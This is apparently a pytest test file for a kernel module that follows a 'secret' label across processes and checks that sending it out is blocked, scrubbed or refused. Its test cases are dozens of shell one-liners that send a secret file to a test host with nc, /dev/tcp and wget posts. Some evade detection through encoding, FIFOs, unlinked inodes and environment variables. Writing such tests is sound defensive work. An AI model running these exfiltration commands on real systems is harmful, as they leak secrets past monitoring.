# SPDX-License-Identifier: GPL-3.0-or-later
"""The label goes along from process to process: the process that sends the bytes in the end is asked about."""

import re

import pytest

from tests.kernel.guest_run import Case
from tests.kernel.oracle import assert_allowed, assert_blocked, assert_scrubbed


def relayed(kind, wait, sender=None):
    """A receiver that waits before the sender reads the secret."""
    sender = sender or f"channel send {kind} secret"
    return f"channel receive {kind} {wait} & until [[ -e ready ]]; do sleep 0.02; done; sleep 0.1; {sender}; wait $!"


def piped(wait):
    """A reader that waits at a pipe."""
    return f"{{ sleep 0.2; cat secret; }} | channel receive stdin {wait}"


# A reader that starts before the FIFO exists, and opens it after it was filled.
LATE_READER = "bash -c 'until [[ -e go ]]; do sleep 0.02; done; head -c 50 > /dev/tcp/10.77.0.2/9 <"

SCRIPTS = {
    "pipe": "cat secret | nc remote 9",
    "pipe-encoded": "base64 secret | nc remote 9",
    "pipe-three": "cat secret | cat | cat | nc remote 9",
    "pipe-late-reader": "cat secret | { sleep 0.3; nc remote 9; }",
    **{f"pipe-in-{wait}": piped(wait) for wait in ("read", "poll", "select", "epoll", "splice")},
    **{f"{kind}-in-{wait}": relayed(kind, wait) for kind, wait in (
        ("stream", "read"), ("stream", "poll"), ("stream", "message"), ("stream", "late"), ("datagram", "read"),
        ("datagram", "epoll"), ("datagram", "messages"), ("packet", "read"), ("abstract", "select"), ("tcp", "read"),
        ("tcp", "epoll"), ("tcp", "late"), ("tcp", "splice"), ("udp", "read"), ("udp", "message"), ("tcp6", "read"),
        ("address", "read"))},
    "loopback-nc": "nc -l -p 7712 | nc remote 9 & sleep 0.3; nc 127.0.0.1 7712 < secret; wait $!",
    "fifo": "mkfifo way; nc remote 9 < way & cat secret > way; wait $!",
    "fifo-late": f"mkfifo way; {LATE_READER} way' & exec 5<> way; cat secret >&5; touch go; wait $!",
    "opened-by-proc": f"mkfifo way; {LATE_READER} /proc/'$$'/fd/5' & exec 5<> way; cat secret >&5; touch go; wait $!",
    # With the last of two names the kernel takes the inode for deleted, although it is open by the other.
    "unlinked-fifo": f"mkfifo way; ln way other; {LATE_READER} /proc/'$$'/fd/5' & exec 5<> way; cat secret >&5; rm way other\n"
                     "touch go; wait $!",
    "cp": "cp secret copy; nc remote 9 < copy",
    "cp-by-writes": "cat secret > copy; nc remote 9 < copy",
    "cp-to-memory": "cat secret > /dev/shm/copy; nc remote 9 < /dev/shm/copy; rm -f /dev/shm/copy",
    "dd": "dd if=secret of=copy bs=7 status=none; nc remote 9 < copy",
    "append": "echo first > copy; cat secret >> copy; nc remote 9 < copy",
    "rename": "mv secret other; nc remote 9 < other",
    "hard-link": "ln secret other; nc remote 9 < other",
    "variable": "x=$(cat secret); echo \"${x//$'\\n'/ }\" > /dev/tcp/remote/9",
    "here-string": "nc remote 9 <<< \"$(cat secret)\"",
    "arguments": "x=$(cat secret); env -i /usr/bin/bash -c 'echo \"${0//$'\"'\\\\n'\"'/ }\" > /dev/tcp/10.77.0.2/9' \"$x\"",
    "environment": "export X=$(cat secret); bash -c 'printf \"%q\" \"$X\" > /dev/tcp/10.77.0.2/9'",
    "xargs": "tr '\\n' ' ' < secret | xargs sh -c 'echo \"$@\" | nc remote 9' sh",
    "substitution": "nc remote 9 < <(cat secret)",
    "editor": "sed -i s/anna/hans/ secret; nc remote 9 < secret",
    "tee": "tee copy < secret > /dev/null; nc remote 9 < copy",
    "sorted": "sort -r secret | uniq | tr a-z A-Z | nc remote 9",
    "post": "wget -q -T 5 -O - --post-file secret http://10.77.0.2/up",
    "post-data": "wget -q -T 5 -O - --post-data \"$(cat secret)\" http://10.77.0.2/up",
    # A file that was mapped before it was labelled counts as read by the process.
    "mapped-to-file": "agent unlabel secret; leak labelled-while-mapped stdout secret > copy; nc remote 9 < copy",
    "mapped-to-pipe": "agent unlabel secret; leak labelled-while-mapped stdout secret | nc remote 9",
    "background": "(sleep 0.2; nc remote 9 < secret) & wait $!",
}
# The oracle does not know these disguises.
DISGUISED = {
    "gzip": "gzip -c secret | nc remote 9",
    "od": "od -An -to1 secret | nc remote 9",
}
# These show once that readers get the scrubbed copy.
SCRUBBED = ("pipe", "pipe-encoded", "pipe-three", "pipe-in-epoll", "stream-in-message", "datagram-in-read", "tcp-in-late", "udp-in-read",
            "fifo-late", "cp", "variable", "arguments", "environment", "here-string", "post", "gzip", "od")
# The module refuses these channels, because it cannot follow them.
REFUSED = {
    "sysv": relayed("sysv", "read"),
    "queue": relayed("queue", "read"),
}


@pytest.mark.parametrize("case", [Case(name, script) for name, script in {**SCRIPTS, **DISGUISED}.items()], ids=str)
def test_blocked(case, outcome):
    # A header or a line break that both halves send alike may have left before the question.
    assert_blocked(outcome, nothing_at_all=case.name not in ("post", "post-data", "append", "gzip"))


@pytest.mark.nightly
@pytest.mark.parametrize("case", [Case(name, script, "allow") for name, script in SCRIPTS.items()], ids=str)
def test_allowed(case, outcome):
    assert_allowed(outcome)


@pytest.mark.parametrize("case", [Case(name, {**SCRIPTS, **DISGUISED}[name], "scrub") for name in SCRUBBED], ids=str)
def test_scrubbed(case, outcome):
    assert_scrubbed(outcome)


@pytest.mark.parametrize("case", [Case(name, script, timeout=2) for name, script in REFUSED.items()], ids=str)
def test_refused(case, outcome):
    assert outcome.received == b"", outcome.describe()


# The chain that the question tells: the process that read the file, then those that the data went through. The sender is in it
# only if it lived before the data came, or was no longer watched when it came.
CHAINS = {
    "cat secret | tac | nc remote 9": "cat>tac>nc",
    "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash(>nc)?",
    "head -c 40 secret | { sleep 0.1; exec nc remote 9; }": "head>nc",
    "cat secret | cat | cat | cat | cat | cat | cat | cat | cat | nc remote 9": "cat>cat>cat>cat>cat>cat>cat>cat",
    relayed("stream", "read"): "channel>channel",
    "leak splice write secret": "leak",
}


@pytest.mark.parametrize("case", [Case(f"chain-{number}", script) for number, script in enumerate(CHAINS)], ids=str)
def test_chain_is_told(case, outcome):
    assert outcome.questions, outcome.describe()
    assert all(re.search(f" chain={CHAINS[case.script]} ", line) and " origin=/mnt/case/secret " in line
               for line in outcome.questions), outcome.describe()


# One user fills as many pipes as she may. Another one is not hindered.
MANY = """
chmod 755 .; chmod 644 secret; chmod 1777 /tmp; ulimit -n 20000
as() { setpriv --reuid $1 --regid $1 --clear-groups "${@:2}"; }
as 1000 leak read many-pipes secret & holder=$!
until [[ -e /tmp/full ]]; do sleep 0.1; done
as 1001 bash -c 'cat secret | cat > /dev/null && echo another passes'
kill $holder; wait $holder; rm /tmp/full
"""


@pytest.mark.parametrize("case", [Case("many", MANY, timeout=100)], ids=str)
def test_a_user_takes_no_channels_from_others(case, outcome):
    assert "pipes 4096 ENOSPC" in outcome.output and "another passes" in outcome.output, outcome.describe()
